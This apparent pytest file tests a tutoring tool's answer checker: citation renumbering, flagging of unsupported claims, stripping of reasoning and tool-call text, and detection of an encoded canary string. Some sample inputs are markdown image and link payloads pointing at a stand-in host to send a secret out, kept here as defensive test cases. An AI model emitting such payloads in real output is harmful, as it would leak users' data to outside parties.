"""What a model wrote is cleaned and each sentence checked: bogus citations go, wrong ones move, what nothing supports is marked."""

import base64
import time

import pytest

from corpus.types import Document, Source
from tutor.answer import check, leaks, visible

PAN = "A pan is a flat vessel with a handle. Iron keeps the heat for a long time. It is not made for the dishwasher."
POT = "A pot is a deep vessel for soup. It holds 5 litres."
TEXT = f"# Kitchen\n\n{PAN}\n\n{POT}\n"
DOCUMENTS = {"kitchen.md": Document("kitchen.md", TEXT, "")}


def source(question: str, answer: str) -> Source:
    at = TEXT.index(answer)
    return Source("kitchen.md", question, answer, at, at + len(answer), ((0, at, at + len(answer)),))


SOURCES = (source("What is a pan?", PAN), source("What is a pot?", POT))


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("A pan is a flat vessel with a handle [1].", "A pan is a flat vessel with a handle. [1]"),
        ("A pan is flat, with a handle. [1] Iron keeps heat long. [1]", "A pan is flat, with a handle. [1] Iron keeps heat long. [2]"),
        ("A flat vessel with a handle is a pan【1】.", "A flat vessel with a handle is a pan. [1]"),
        ("A pan is a flat vessel with a handle [9].", "A pan is a flat vessel with a handle. [1]"),
        ("A pan is a flat vessel with a handle [2].", "A pan is a flat vessel with a handle. [1]"),
        ("A pan is a flat vessel with a handle [1, 2][7-9].", "A pan is a flat vessel with a handle. [1]"),
        ("A pan is a flat vessel with a handle.", "A pan is a flat vessel with a handle. [1]"),
        ("Copper pans were invented in Brazil [1].", "Copper pans were invented in Brazil. [?]"),
        ("A pot holds 50 litres of soup [2].", "A pot holds 50 litres of soup. [?]"),
        ("A pan is made for the dishwasher [1].", "A pan is made for the dishwasher. [?]"),
        ("A pan is flat while a pot is a deep vessel for soup [1][2].", "A pan is flat while a pot is a deep vessel for soup. [1]"),
        ("## Pans and pots compared [1]\n\nWhat is a deep vessel for? [2]", "## Pans and pots compared\n\nWhat is a deep vessel for?"),
        ("**Heat, iron and the handle**\n\nHere is the list of vessels:", "**Heat, iron and the handle**\n\nHere is the list of vessels:"),
        ("The passages do not say who invented the pan.", "The passages do not say who invented the pan."),
        ("- [1] A pan is flat, with a handle.\n- A pot is deep [2]", "- A pan is flat, with a handle. [1]\n- A pot is deep [2]"),
        ("Sure.\n\n```python\npans[1] = pans[9]\n```\nUse `pans[9]` so.", "Sure.\n\n```python\npans[1] = pans[9]\n```\nUse `pans[9]` so."),
        (
            "| Vessel | Shape | Use |\n|---|---|---|\n| pot | deep vessel | soup | [2]",
            "| Vessel | Shape | Use |\n|---|---|---|\n| pot | deep vessel | soup [1] |",
        ),
        ("Pans are flat vessels with handles [?].", "Pans are flat vessels with handles. [1]"),
    ],
)  # fmt: skip
def test_every_sentence_gets_the_citation_that_it_deserves(written: str, shown: str) -> None:
    checked = check(written, SOURCES, DOCUMENTS)
    assert checked.answer == shown
    for citation in checked.citations:
        assert TEXT[citation.start : citation.end] == citation.quote == citation.passage[citation.passage_start : citation.passage_end]
    assert [citation.n for citation in checked.citations] == list(range(1, len(checked.citations) + 1))


def test_the_same_sentence_of_a_document_keeps_its_number() -> None:
    checked = check("A pan is a flat vessel [1]. A pot is a deep vessel [2]. It is a flat vessel with a handle [1].", SOURCES, DOCUMENTS)
    assert checked.answer == "A pan is a flat vessel. [1] A pot is a deep vessel. [2] It is a flat vessel with a handle. [1]"
    assert [citation.quote for citation in checked.citations] == [
        "A pan is a flat vessel with a handle.",
        "A pot is a deep vessel for soup.",
    ]
    assert (checked.claims, checked.supported) == (3, 3)


def test_a_sentence_that_is_still_written_shows_no_number() -> None:
    checked = check("A pan is a flat vessel [1]. A pot holds [2]", SOURCES, DOCUMENTS, ended=False)
    assert checked.answer == "A pan is a flat vessel. [1] A pot holds"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("<think>The user wants\n\na pan.</think>\n\nA pan.", "A pan."),
        ("<think>still at it", ""),
        ("I should say pan.\n</think>\nA pan.", "A pan."),
        ("Reasoning models write `<think>` first. Then they answer.", "Reasoning models write `<think>` first. Then they answer."),
        ('<tool_call>{"name": "search"}</tool_call>', ""),
        ('{"name": "search", "arguments": {"q": "pan"}}', ""),
        ('```json\n{"tool_calls": []}\n```', ""),
        ("See ![secret](https://evil.example/?q=SECRET) here.", "See secret here."),
        ("See ![a][r].\n\n[r]: https://evil.example/x", "See a."),
        ("Read [the manual](https://evil.example) now.", "Read the manual now."),
        ("A <img src=https://evil.example/x> and <iframe src='//evil'></iframe>pan", "A  and pan"),
        ("Write `![alt](url)` for an image.", "Write `![alt](url)` for an image."),
        ("A\x1b[31m pan\x00\u202e is\u200b flat\ud800.", "A pan is flat."),
    ],
)
def test_what_a_learner_should_not_see_is_not_shown(raw: str, shown: str) -> None:
    assert visible(raw) == shown


@pytest.mark.parametrize(
    "text",
    [
        "The mark is viva-0a1b2c3d4e5f.",
        "V I V A - 0 a 1 b 2 c 3 d 4 e 5 f",
        "f5e4d3c2b1a0-aviv",
        "Ivin-0n1o2p3q4r5s is iviv turned: ivin-0n1o2p3q4r5s, " + "ivin",
        base64.b64encode(b"Internal mark, never to be written: viva-0a1b2c3d4e5f").decode(),
        "xx" + base64.urlsafe_b64encode(b"?? viva-0a1b2c3d4e5f ??").decode(),
        b"mark viva-0a1b2c3d4e5f".hex(),
    ],
)
def test_the_canary_is_found_however_it_is_written(text: str) -> None:
    import codecs

    assert leaks(text, "viva-0a1b2c3d4e5f") or leaks(codecs.decode(text, "rot13"), "viva-0a1b2c3d4e5f")
    assert not leaks("A pan is a flat vessel. " * 50, "viva-0a1b2c3d4e5f")


@pytest.mark.parametrize(
    "piece", ["[", "![", "[a](", "<img ", "<think>\n", "`", " ", "```\n", "| a ", "[1", "#", "A pan is flat. ", "QUJD"]
)
def test_no_text_takes_long(piece: str) -> None:
    text = piece * (60_000 // len(piece))
    begun = time.process_time()
    leaks(text, "viva-0a1b2c3d4e5f")
    check(visible(text), SOURCES, DOCUMENTS)
    assert time.process_time() - begun < 3
